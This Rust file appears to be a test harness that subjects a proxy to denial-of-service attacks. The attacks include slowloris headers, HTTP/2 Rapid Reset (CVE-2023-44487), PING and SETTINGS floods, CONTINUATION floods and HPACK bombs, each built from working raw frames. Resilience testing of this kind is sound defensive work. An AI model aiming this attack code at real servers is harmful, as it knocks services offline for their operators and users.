//! What is done to a proxy. Each attack is many connections that do the same; one that
//! the proxy ends is made again at once.

use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

/// What the attackers take of the processors is bounded: this is not about time.
const PAUSE: Duration = Duration::from_millis(50);
/// How much an attacker that reads nothing lets wait on its side.
const UNREAD: u32 = 4096;

type Done = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// Many connections, and what is done on each.
pub(crate) struct Attack {
    connections: usize,
    each: fn(TcpStream) -> Done,
}

/// An attack that goes on until this is dropped.
pub(crate) struct Underway {
    begun: Arc<AtomicUsize>,
    connections: usize,
    _tasks: JoinSet<()>,
}

impl Attack {
    pub(crate) fn start(&self, proxy: SocketAddr) -> Underway {
        let begun = Arc::new(AtomicUsize::new(0));
        let mut tasks = JoinSet::new();
        for _ in 0..self.connections {
            let (begun, each) = (Arc::clone(&begun), self.each);
            tasks.spawn(async move {
                loop {
                    if let Ok(stream) = connect(proxy).await {
                        begun.fetch_add(1, Ordering::Relaxed);
                        // The proxy's right: it is what is tried.
                        let _ = each(stream).await;
                    }
                    sleep(PAUSE).await;
                }
            });
        }
        Underway {
            begun,
            connections: self.connections,
            _tasks: tasks,
        }
    }
}

impl Underway {
    /// Whether as many connections as there are to be were made, by the kernel at least.
    pub(crate) fn is_whole(&self) -> bool {
        self.begun() >= self.connections
    }

    /// How many connections were made.
    pub(crate) fn begun(&self) -> usize {
        self.begun.load(Ordering::Relaxed)
    }
}

async fn connect(proxy: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(UNREAD)?;
    socket.connect(proxy).await
}

/// Connections on which a request was answered, and which then say nothing.
pub(crate) fn idle(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nhost: app\r\n\r\n")
                    .await?;
                read_on(&mut stream).await
            })
        },
    }
}

/// Heads that come a byte at a time and never end.
pub(crate) fn slow_heads(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nhost: app\r\nx-slow: ")
                    .await?;
                loop {
                    sleep(Duration::from_secs(1)).await;
                    stream.write_all(b"a").await?;
                }
            })
        },
    }
}

/// The beginning of a ClientHello, and nothing more.
pub(crate) fn unfinished_handshakes(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]).await?;
                read_on(&mut stream).await
            })
        },
    }
}

/// Heads with a field of a megabyte.
pub(crate) fn large_heads(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nhost: app\r\nx-large: ")
                    .await?;
                for _ in 0..64 {
                    stream.write_all(&[b'a'; 16 * 1024]).await?;
                }
                read_on(&mut stream).await
            })
        },
    }
}

/// Requests for a response that has no end, of which nothing is read.
pub(crate) fn unread_responses(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream
                    .write_all(b"GET /endless HTTP/1.1\r\nhost: app\r\n\r\n")
                    .await?;
                until_reset(&stream).await
            })
        },
    }
}

/// Chunked bodies without an end, which the application reads.
pub(crate) fn endless_bodies(connections: usize) -> Attack {
    Attack {
        connections,
        each: |stream| Box::pin(endless_body(stream, "/")),
    }
}

/// The same, and the application does not read.
pub(crate) fn unread_bodies(connections: usize) -> Attack {
    Attack {
        connections,
        each: |stream| Box::pin(endless_body(stream, "/unread")),
    }
}

async fn endless_body(mut stream: TcpStream, path: &str) -> io::Result<()> {
    let head = format!("POST {path} HTTP/1.1\r\nhost: app\r\ntransfer-encoding: chunked\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    let chunk = [b"4000\r\n".as_slice(), &[b'b'; 0x4000], b"\r\n"].concat();
    loop {
        stream.write_all(&chunk).await?;
        sleep(Duration::from_millis(100)).await;
    }
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(crate) fn rapid_resets(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream.write_all(&http2_preface(&[])).await?;
                let mut number = 1;
                while number < 1 << 30 {
                    let mut batch = Vec::new();
                    for _ in 0..100 {
                        batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, number, REQUEST));
                        batch.extend(frame(RST_STREAM, 0, number, &8_u32.to_be_bytes()));
                        number += 2;
                    }
                    send_and_read(&mut stream, &batch).await?;
                }
                Ok(())
            })
        },
    }
}

/// SETTINGS frames, each to be acknowledged, to somebody who reads no acknowledgement.
pub(crate) fn settings_flood(connections: usize) -> Attack {
    Attack {
        connections,
        each: |stream| Box::pin(flood(stream, frame(SETTINGS, 0, 0, &[]))),
    }
}

/// PING frames (CVE-2019-9512), likewise.
pub(crate) fn ping_flood(connections: usize) -> Attack {
    Attack {
        connections,
        each: |stream| Box::pin(flood(stream, frame(PING, 0, 0, &[7; 8]))),
    }
}

async fn flood(mut stream: TcpStream, frame: Vec<u8>) -> io::Result<()> {
    stream.write_all(&http2_preface(&[])).await?;
    let batch = frame.repeat(500);
    loop {
        stream.write_all(&batch).await?;
        sleep(PAUSE).await;
    }
}

/// A head in CONTINUATION frames that has no end (CVE-2024-27316).
pub(crate) fn continuation_flood(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream.write_all(&http2_preface(&[])).await?;
                stream
                    .write_all(&frame(HEADERS, END_STREAM, 1, REQUEST))
                    .await?;
                // A literal field without a name in the table (RFC 7541, 6.2.2).
                let field = [b"\x00\x01x\x7f\x81\x7e".as_slice(), &[b'a'; 16 * 1024]].concat();
                loop {
                    for part in field.chunks(8 * 1024) {
                        let frame = frame(CONTINUATION, 0, 1, part);
                        send_and_read(&mut stream, &frame).await?;
                    }
                }
            })
        },
    }
}

/// 64 requests each, by somebody whose windows stay closed.
pub(crate) fn closed_windows(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                // SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, 6.5.2).
                let mut bytes = http2_preface(&[(4, 0)]);
                for number in 0..64 {
                    let number = 2 * number + 1;
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, number, REQUEST));
                }
                stream.write_all(&bytes).await?;
                read_on(&mut stream).await
            })
        },
    }
}

/// Heads that are small on the wire and large when they are read: one field of 4 kB, put
/// into the table and referred to thousands of times.
pub(crate) fn hpack_bombs(connections: usize) -> Attack {
    Attack {
        connections,
        each: |mut stream| {
            Box::pin(async move {
                stream.write_all(&http2_preface(&[])).await?;
                // With a name of one byte and a value of 3,900 (RFC 7541, 6.2.1).
                let field = [b"\x40\x01x\x7f\xbd\x1d".as_slice(), &[b'a'; 3900]].concat();
                let mut number = 1;
                while number < 1 << 30 {
                    let head = [REQUEST, &field, &[0xbe; 8_000]].concat();
                    let bytes = frame(HEADERS, END_HEADERS | END_STREAM, number, &head);
                    send_and_read(&mut stream, &bytes).await?;
                    number += 2;
                }
                Ok(())
            })
        },
    }
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /` over http to the authority `app`, by the static table (RFC 7541, Appendix A).
const REQUEST: &[u8] = b"\x82\x86\x84\x41\x03app";

/// What a client begins with (RFC 9113, 3.4).
fn http2_preface(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (name, value) in settings {
        payload.extend(name.to_be_bytes());
        payload.extend(value.to_be_bytes());
    }
    let settings = frame(SETTINGS, 0, 0, &payload);
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &settings].concat()
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Sends, and takes what there is to read.
async fn send_and_read(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
    stream.write_all(bytes).await?;
    let mut buffer = [0; 4096];
    loop {
        match stream.try_read(&mut buffer) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
            Err(error) => return Err(error),
        }
    }
    sleep(PAUSE).await;
    Ok(())
}

/// Reads until the proxy ends the connection.
async fn read_on(stream: &mut TcpStream) -> io::Result<()> {
    let mut buffer = [0; 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Waits until the proxy breaks the connection off, without reading.
async fn until_reset(stream: &TcpStream) -> io::Result<()> {
    loop {
        sleep(Duration::from_millis(200)).await;
        if let Some(error) = stream.take_error()? {
            return Err(error);
        }
    }
}
